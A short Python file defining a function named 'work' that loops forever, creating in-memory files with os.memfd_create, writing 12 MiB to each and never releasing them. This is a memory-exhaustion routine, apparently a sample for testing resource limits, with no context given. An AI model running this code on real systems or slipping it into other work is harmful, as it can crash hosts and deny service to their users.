import os


def work(x):
    held = []
    while True:
        descriptor = os.memfd_create("held")
        for _ in range(12):
            os.write(descriptor, b"x" * (1 << 20))
        held.append(descriptor)
